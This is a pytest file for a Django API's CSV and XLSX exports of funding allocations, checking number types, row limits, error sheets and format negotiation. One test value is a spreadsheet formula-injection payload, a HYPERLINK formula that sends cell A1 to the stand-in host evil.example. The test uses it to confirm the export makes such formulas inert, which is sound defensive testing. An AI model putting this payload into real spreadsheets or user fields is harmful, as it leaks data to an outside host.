"""The API's files: XLSX with numbers as numbers, CSV that opens right, and an honest answer for a format
an address does not have."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from core import spreadsheets
from core.spreadsheets import MONEY_FORMAT, XLSX_CONTENT_TYPE, XLSX_MAX_ROWS
from funding.models import Allocation

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def workbook(response):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def rows_of(sheet):
    header, *rows = [[cell for cell in row] for row in sheet.iter_rows()]
    return [cell.value for cell in header], rows


def test_guatemalas_disbursements_in_xlsx_are_five_numbers_summing_to_1675000(client):
    response = client.get("/api/v1/allocations/", {"country": "GT", "stage": "disbursed", "format": "xlsx"})
    assert response["Content-Disposition"] == 'attachment; filename="allocations.xlsx"'
    book = workbook(response)
    assert book.sheetnames == ["allocations"]
    header, rows = rows_of(book.active)
    amounts = [row[header.index("amount")] for row in rows]
    assert len(rows) == 5
    assert {cell.data_type for cell in amounts} == {"n"}
    assert {cell.number_format for cell in amounts} == {MONEY_FORMAT}
    assert sum(Decimal(str(cell.value)) for cell in amounts) == Decimal("1675000")
    # One header row, then only data; the years are numbers too.
    assert header[:3] == ["id", "fiscal_year", "stage"]
    assert {row[header.index("fiscal_year")].data_type for row in rows} == {"n"}


def test_a_formula_in_a_note_is_inert_text_in_xlsx(client):
    item = Allocation.objects.filter(country__iso2="GT", stage="disbursed").order_by("id").first()
    item.note = FORMULA
    item.save()
    book = workbook(client.get("/api/v1/allocations/?country=GT&stage=disbursed&format=xlsx"))
    header, rows = rows_of(book.active)
    notes = [row[header.index("note")] for row in rows if row[header.index("note")].value]
    assert [(cell.value, cell.data_type) for cell in notes] == [("'" + FORMULA, "s")]
    assert all(cell.data_type != "f" for row in rows for cell in row)


def test_a_negative_difference_stays_a_number_in_csv_and_xlsx(client):
    response = client.get("/api/v1/reconciliation/", {"format": "csv"})
    text = b"".join(response.streaming_content).decode()
    assert ",-328816681.00," in text
    assert "'-328816681.00" not in text
    differences = [row["difference"] for row in csv.DictReader(io.StringIO(text)) if row["difference"]]
    assert "-328816681.00" in differences
    header, rows = rows_of(workbook(client.get("/api/v1/reconciliation/", {"format": "xlsx"})).active)
    cells = [
        row[header.index("difference")] for row in rows if row[header.index("difference")].value is not None
    ]
    assert {cell.data_type for cell in cells} == {"n"}
    assert Decimal("-328816681.00") in {Decimal(str(cell.value)) for cell in cells}


GUATEMALA_BY_YEAR = [
    Decimal("1242000"),
    Decimal("2000"),
    Decimal("431000"),
    Decimal("1675000"),
]  # FY2009–2011, total


def test_the_totals_in_xlsx_are_the_table_and_the_pivot_as_a_grid(client):
    book = workbook(
        client.get(
            "/api/v1/allocations/totals/",
            {"group_by": "country,fiscal_year", "stage": "disbursed"} | {"format": "xlsx"},
        )
    )
    assert book.sheetnames == ["totals", "disbursed"]
    header, rows = rows_of(book["disbursed"])
    assert header == ["country", "country_name", "2009", "2010", "2011", "total"]
    by_country = {row[0].value: [cell.value for cell in row[2:]] for row in rows}
    assert [None if v is None else Decimal(str(v)) for v in by_country["GT"]] == GUATEMALA_BY_YEAR
    assert Decimal(str(by_country["total"][-1])) == Decimal("12075000")


def test_the_totals_of_one_dimension_set_the_stages_side_by_side_never_summed(client):
    book = workbook(client.get("/api/v1/allocations/totals/", {"group_by": "fiscal_year", "format": "xlsx"}))
    header, rows = rows_of(book["by stage"])
    assert header == ["fiscal_year", "Appropriated", "Allocated", "Disbursed"]
    assert "total" not in header
    fy2008 = {name: cell.value for name, cell in zip(header, rows[0], strict=True)}
    assert fy2008["fiscal_year"] == 2008
    assert Decimal(str(fy2008["Appropriated"])) == Decimal("60000000")


def test_the_disagreements_download_as_csv_and_xlsx_one_row_per_side(client):
    text = b"".join(client.get("/api/v1/disagreements/", {"format": "csv"}).streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    world_bank = [row for row in rows if row["key"] == "world-bank-1000-or-1500"]
    assert [row["side"] for row in world_bank] == ["1", "2"]
    _, xlsx_rows = rows_of(workbook(client.get("/api/v1/disagreements/", {"format": "xlsx"})).active)
    assert len(xlsx_rows) == len(rows) == 8


def test_an_xlsx_beyond_excels_rows_is_a_400_that_points_to_csv(client, monkeypatch):
    assert XLSX_MAX_ROWS == 1_048_576  # Excel's own limit, the header row among them
    monkeypatch.setattr(spreadsheets, "XLSX_MAX_ROWS", 5)  # the writer's guard
    monkeypatch.setattr("funding.api.downloads.XLSX_MAX_ROWS", 5)  # the count before writing
    response = client.get("/api/v1/allocations/", {"country": "GT", "stage": "disbursed", "format": "xlsx"})
    assert response.status_code == 400
    _, rows = rows_of(openpyxl.load_workbook(io.BytesIO(response.content)).active)
    assert rows[0][0].value == "format"
    assert "more than an XLSX sheet holds" in rows[0][1].value and "format=csv" in rows[0][1].value
    # The same rows as CSV are no trouble.
    assert client.get("/api/v1/allocations/?country=GT&stage=disbursed&format=csv").status_code == 200


def test_the_writers_own_guard_stops_a_sheet_beyond_the_limit(monkeypatch):
    monkeypatch.setattr(spreadsheets, "XLSX_MAX_ROWS", 3)
    with pytest.raises(spreadsheets.TooManyRows):
        spreadsheets.xlsx_response("x.xlsx", [spreadsheets.Sheet("x", ["n"], ([n] for n in range(3)))])


@pytest.mark.parametrize(
    "url, formats",
    [
        ("/api/v1/programs/?format=csv", "json, api (the browsable pages)"),
        ("/api/v1/countries/?format=xlsx", "json, api (the browsable pages)"),
        ("/api/v1/allocations/?format=xml", "json, api (the browsable pages), csv, xlsx"),
        ("/api/v1/allocations/1/?format=csv", "json, api (the browsable pages)"),
        ("/api/v1/reconciliation/?format=pdf", "json, api (the browsable pages), csv, xlsx"),
    ],
)
def test_a_format_an_address_does_not_have_is_a_406_naming_the_ones_it_has(client, url, formats):
    response = client.get(url)
    assert response.status_code == 406
    assert response["Content-Type"] == "application/json"
    [message] = response.json()["format"]
    assert message.endswith(f"Its formats are: {formats}.")


def test_a_bad_filter_with_format_xlsx_is_a_400_in_a_sheet(client):
    response = client.get("/api/v1/allocations/", {"country": "ZZ", "format": "xlsx"})
    assert response.status_code == 400
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    header, rows = rows_of(openpyxl.load_workbook(io.BytesIO(response.content)).active)
    assert header == ["field", "message"]
    assert rows[0][0].value == "country"


def test_the_xlsx_header_row_is_in_the_language_asked_for(client):
    book = workbook(client.get("/api/v1/allocations/", {"country": "GT", "format": "xlsx", "lang": "es"}))
    header, _ = rows_of(book.active)
    assert header[:3] == ["id", "año_fiscal", "etapa"]


def test_every_line_item_goes_into_xlsx_regional_ones_named(client):
    header, rows = rows_of(workbook(client.get("/api/v1/allocations/", {"format": "xlsx"})).active)
    assert len(rows) == Allocation.objects.count() == 54
    regional = [row for row in rows if row[header.index("country")].value is None]
    names = {row[header.index("country_name")].value for row in regional}
    assert names == {"Regional / no country"}


def test_a_parameter_name_with_control_characters_is_a_400_sheet_not_a_500(client):
    response = client.get("/api/v1/reconciliation/?format=xlsx&%C3%B61%C2%8C%0B=1")
    assert response.status_code == 400
    _, rows = rows_of(openpyxl.load_workbook(io.BytesIO(response.content)).active)
    assert rows[0][0].value == "ö1\x8c"  # the vertical tab, which no sheet can hold, left out


@pytest.mark.parametrize(
    "accept, content_type", [("text/csv", "text/csv; charset=utf-8"), (XLSX_CONTENT_TYPE, XLSX_CONTENT_TYPE)]
)
def test_an_accept_header_asks_for_the_same_file_as_format(client, accept, content_type):
    response = client.get("/api/v1/allocations/?country=GT&stage=disbursed", HTTP_ACCEPT=accept)
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"].startswith('attachment; filename="allocations.')


def test_an_accept_header_for_a_file_an_address_does_not_have_is_a_406(client):
    assert client.get("/api/v1/programs/", HTTP_ACCEPT="text/csv").status_code == 406
